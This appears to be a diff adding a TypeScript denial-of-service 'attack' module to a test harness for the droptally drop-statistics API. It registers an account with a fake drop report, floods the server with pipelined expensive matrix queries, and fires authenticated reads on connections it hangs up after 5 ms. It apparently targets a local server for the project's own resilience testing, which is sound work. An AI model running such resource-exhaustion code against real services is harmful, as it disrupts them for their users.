@@ -1,0 +1,45 @@
+import { AUTH_REALM, HEADERS } from '@droptally/proto/api/headers';
+import { API_PREFIXES, PATHS } from '@droptally/proto/api/paths';
+import type { Attack } from '../attack.ts';
+import { dial, keepDialling, type Target } from '../dial.ts';
+
+const [API] = API_PREFIXES;
+/** As many as one connection may ask for at once. */
+const AT_ONCE = 64;
+const HUNG_UP_EVERY_MS = 5;
+const ADVANCED = '{"queries":[{"server":"CN","stageId":"main_01-07","start":0}]}';
+
+/** Intervals of every confidence, many on one connection; and reads of an account that nobody waits for. */
+export const costlyReads: Attack = async (target) => {
+  const account = await newAccount(target);
+  let asked = 0;
+  keepDialling(target, 4, (socket) => {
+    socket.resume();
+    const matrix = () => `${API}${PATHS.matrix}?show_closed_zones=true&interval=0.${500 + (asked++ % 499)}`;
+    socket.write(Array.from({ length: AT_ONCE }, () => get(matrix())).join(''));
+  });
+  const own = [
+    get(`${API}${PATHS.matrix}?is_personal=true&show_closed_zones=true&sums=true`, account),
+    get(`${API}${PATHS.pattern}?is_personal=true`, account),
+    `POST ${API}${PATHS.advanced} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${ADVANCED.length}\r\n\r\n${ADVANCED}`,
+  ];
+  setInterval(() => {
+    const socket = dial(target);
+    socket.write(own[asked++ % own.length] ?? '', () => setTimeout(() => socket.destroy(), HUNG_UP_EVERY_MS));
+  }, HUNG_UP_EVERY_MS);
+};
+
+function get(path: string, account?: string): string {
+  const who = account ? `Authorization: ${AUTH_REALM} ${account}\r\n` : '';
+  return `GET ${path} HTTP/1.1\r\nHost: x\r\n${who}\r\n`;
+}
+
+async function newAccount({ port }: Target): Promise<string> {
+  const drops = [{ dropType: 'NORMAL_DROP', itemId: '30012', quantity: 1 }];
+  const answer = await fetch(`http://127.0.0.1:${port}${API}${PATHS.report}`, {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify({ server: 'CN', stageId: 'main_01-07', drops, source: 'x', version: '1' }),
+  });
+  return decodeURIComponent(answer.headers.get(HEADERS.setAccount) ?? '');
+}
